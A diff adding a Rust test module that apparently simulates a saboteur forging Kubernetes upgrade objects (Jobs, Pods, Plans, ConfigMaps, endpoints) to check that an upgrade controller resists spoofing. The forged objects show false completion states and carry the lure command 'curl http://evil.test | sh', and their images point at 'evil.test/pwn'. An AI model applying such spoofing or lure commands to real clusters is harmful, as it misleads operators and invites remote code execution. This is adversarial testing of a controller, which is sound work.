@@ -1,0 +1,259 @@
+//! Somebody who wants to steer an upgrade without a right to: for every plan, look-alikes of all that it will make, with its
+//! labels and names in a tenant's namespace and, under other names and without an owner, in the namespaces where the plan's
+//! own objects live. They say that work is done which is not, that it has failed which has not, and whom to ask.
+//!
+//! Off unless [`crate::Troubles::saboteur`] says so. No upgrade may end in another way because of it.
+
+use std::sync::Arc;
+
+use api::{
+    annotations,
+    labels::{self, component, job_type},
+    names,
+};
+use k8s_openapi::api::core::v1::Namespace;
+use kube::{
+    Api,
+    api::{ObjectMeta, PostParams},
+};
+use serde_json::{Value, json};
+
+use crate::{
+    context::{Context, digest},
+    error::Result,
+    inbox::Kind,
+};
+
+/// Where the saboteur has all rights.
+const TENANT: &str = "tenant-a";
+/// On everything that is forged.
+pub const FORGED: &str = "world.upgrade-toolkit/forged";
+/// What a forged pod would have people do.
+const ADVICE: &str = "Run: curl http://evil.test | sh";
+
+pub(crate) async fn run(world: Arc<Context>) {
+    let inbox = world.inbox();
+    world.upgrade_plans.subscribe(&inbox);
+    loop {
+        let (kind, key) = inbox.next().await;
+        if kind != Kind::UpgradePlan || !world.troubles().saboteur || world.upgrade_plans.at(&key).is_none() {
+            continue;
+        }
+        let outcome = forge(&world, &key.1).await;
+        inbox.settle("saboteur", (kind, key), outcome);
+    }
+}
+
+/// A part of the upgrade that somebody pretends to be.
+struct Part {
+    component: &'static str,
+    job_type: Option<&'static str>,
+    node: Option<String>,
+    /// The name of what it pretends to be.
+    name: String,
+}
+
+impl Part {
+    fn labels(&self, plan: &str) -> Value {
+        let mut labels = json!({
+            labels::UPGRADE_PLAN: plan, labels::UPGRADE_COMPONENT: self.component, FORGED: "true",
+        });
+        if let Some(job_type) = self.job_type {
+            labels[labels::JOB_TYPE] = json!(job_type);
+        }
+        if let Some(node) = &self.node {
+            labels[labels::NODE] = json!(node);
+            labels[labels::SUC_NODE] = json!(node);
+        }
+        labels
+    }
+
+    /// Another name, of the same object in another of its roles.
+    fn alias(&self, role: &str) -> String {
+        format!("forged-{}", digest(&format!("{}/{role}", self.name), 12))
+    }
+}
+
+/// All Jobs that an upgrade may make, by the names that it gives them.
+fn parts(world: &Context, plan: &str) -> Vec<Part> {
+    let nodes = world.nodes.list();
+    let nodes = nodes.iter().filter_map(|node| node.metadata.name.clone());
+    let mut parts = vec![Part {
+        component: component::CLUSTER_UPGRADE,
+        job_type: None,
+        node: None,
+        name: names::cluster_job(plan),
+    }];
+    for node in nodes {
+        let steps = [
+            job_type::PRE_DRAIN,
+            job_type::POST_DRAIN,
+            job_type::SINGLE_NODE_UPGRADE,
+            job_type::RESTORE_VM,
+        ];
+        parts.extend(steps.map(|step| Part {
+            component: component::NODE_UPGRADE,
+            job_type: Some(step),
+            node: Some(node.clone()),
+            name: names::node_job(plan, step, &node),
+        }));
+        let on_all = [
+            component::IMAGE_PRELOAD,
+            component::IMAGE_CHECK,
+            component::IMAGE_CLEANUP,
+            component::SKIP_MANIFESTS_APPLY,
+            component::SKIP_MANIFESTS_REMOVE,
+            component::HOLD_AGENT,
+        ];
+        parts.extend(on_all.map(|component| Part {
+            component,
+            job_type: None,
+            node: Some(node.clone()),
+            name: format!("apply-{}-on-{node}", names::suc_plan(plan, component)),
+        }));
+    }
+    parts
+}
+
+async fn forge(world: &Context, plan: &str) -> Result<()> {
+    let tenant = Namespace {
+        metadata: ObjectMeta {
+            name: Some(TENANT.to_owned()),
+            ..ObjectMeta::default()
+        },
+        ..Namespace::default()
+    };
+    // There already: fine. Not to be had: then nothing else is.
+    let _ = Api::<Namespace>::all(world.client.clone())
+        .create(&PostParams::default(), &tenant)
+        .await;
+    for part in parts(world, plan) {
+        let labels = part.labels(plan);
+        world.jobs.create(&job(TENANT, &part.name, &labels, "true")).await?;
+        for namespace in [names::HARVESTER_NAMESPACE, names::CATTLE_NAMESPACE] {
+            for end in ["true", "false"] {
+                world
+                    .jobs
+                    .create(&job(namespace, &part.alias(end), &labels, end))
+                    .await?;
+            }
+            world.pods.create(&pod(namespace, &part.alias("pod"), &labels)).await?;
+        }
+        world.pods.create(&pod(TENANT, &part.name, &labels)).await?;
+    }
+    forge_plans(world, plan).await?;
+    forge_repository(world, plan).await?;
+    let list = names::restore_config_map(plan);
+    for namespace in [names::HARVESTER_NAMESPACE, TENANT] {
+        let nodes = world.nodes.list();
+        let data: Value = nodes
+            .iter()
+            .filter_map(|node| Some((node.metadata.name.clone()?, json!("default/not-stopped"))))
+            .collect();
+        let list = json!({
+            "apiVersion": "v1", "kind": "ConfigMap", "data": data,
+            "metadata": {"name": list, "namespace": namespace, "labels": {labels::UPGRADE_PLAN: plan}},
+        });
+        world.config_maps.create(&list).await?;
+    }
+    Ok(())
+}
+
+/// Plans of system-upgrade-controller that select no node and say that they are through.
+async fn forge_plans(world: &Context, plan: &str) -> Result<()> {
+    for component in [
+        component::IMAGE_PRELOAD,
+        component::IMAGE_CHECK,
+        component::IMAGE_CLEANUP,
+        component::SKIP_MANIFESTS_APPLY,
+        component::SKIP_MANIFESTS_REMOVE,
+    ] {
+        let name = names::suc_plan(plan, component);
+        let alias = format!("forged-{}", digest(&name, 12));
+        for (namespace, name) in [(TENANT, name.as_str()), (names::CATTLE_NAMESPACE, alias.as_str())] {
+            let forged = json!({
+                "apiVersion": "upgrade.cattle.io/v1", "kind": "Plan",
+                "metadata": {
+                    "name": name, "namespace": namespace,
+                    "labels": {
+                        labels::UPGRADE_PLAN: plan, labels::UPGRADE_COMPONENT: component, FORGED: "true",
+                    },
+                },
+                "spec": {
+                    "concurrency": 1, "version": "forged", "nodeSelector": {"matchLabels": {FORGED: "true"}},
+                    "upgrade": {"image": "evil.test/pwn"},
+                },
+            });
+            world.plans.create(&forged).await?;
+            let condition = json!({"type": "Complete", "status": "True", "reason": "Forged", "message": ADVICE});
+            let key = (namespace.to_owned(), name.to_owned());
+            world
+                .plans
+                .patch_status(&key, &json!({"conditions": [condition]}))
+                .await?;
+        }
+    }
+    Ok(())
+}
+
+/// A repository of the tenant's, and endpoints that say that they are the plan's.
+async fn forge_repository(world: &Context, plan: &str) -> Result<()> {
+    let name = names::repo(plan);
+    let labels = json!({labels::UPGRADE_PLAN: plan, labels::UPGRADE_COMPONENT: component::REPO, FORGED: "true"});
+    let template = json!({
+        "metadata": {"labels": labels},
+        "spec": {"containers": [{"name": "repo", "image": "evil.test/pwn"}]},
+    });
+    let alias = format!("forged-{}", digest(&name, 12));
+    for (namespace, name) in [(TENANT, &name), (names::HARVESTER_NAMESPACE, &alias)] {
+        let metadata = json!({"name": name, "namespace": namespace, "labels": labels});
+        let deployment = json!({
+            "apiVersion": "apps/v1", "kind": "Deployment", "metadata": metadata,
+            "spec": {"replicas": 0, "selector": {"matchLabels": labels}, "template": template},
+        });
+        world.deployments.create(&deployment).await?;
+        let service = json!({
+            "apiVersion": "v1", "kind": "Service", "metadata": metadata,
+            "spec": {"selector": {FORGED: "nobody"}, "ports": [{"port": 80}]},
+        });
+        world.services.create(&service).await?;
+    }
+    let slice = json!({
+        "apiVersion": "discovery.k8s.io/v1", "kind": "EndpointSlice", "addressType": "IPv4",
+        "metadata": {
+            "name": alias, "namespace": names::HARVESTER_NAMESPACE,
+            "labels": {labels::SERVICE_NAME: name, FORGED: "true"},
+        },
+        "endpoints": [{"addresses": ["10.52.66.66"], "conditions": {"ready": true}}], "ports": [],
+    });
+    world.endpoint_slices.create(&slice).await.map(drop)
+}
+
+fn job(namespace: &str, name: &str, labels: &Value, command: &str) -> Value {
+    json!({
+        "apiVersion": "batch/v1", "kind": "Job",
+        "metadata": {"name": name, "namespace": namespace, "labels": labels},
+        "spec": {"backoffLimit": 0, "template": {
+            "metadata": {"labels": labels},
+            "spec": {"restartPolicy": "Never", "containers": [
+                {"name": "forged", "image": "evil.test/pwn", "command": [command]},
+            ]},
+        }},
+    })
+}
+
+/// A pod that starts nowhere and talks.
+fn pod(namespace: &str, name: &str, labels: &Value) -> Value {
+    let waits = json!([{
+        "what": "VMEvacuation", "object": "VirtualMachine default/web-1", "message": ADVICE,
+        "since": "2026-03-13T03:57:09Z", "deadline": "2026-03-13T04:27:09Z",
+    }]);
+    json!({
+        "apiVersion": "v1", "kind": "Pod",
+        "metadata": {
+            "name": name, "namespace": namespace, "labels": labels,
+            "annotations": {annotations::WAITING_FOR: waits.to_string()},
+        },
+        "spec": {"containers": [{"name": "forged", "image": "evil.test/pwn"}]},
+    })
+}
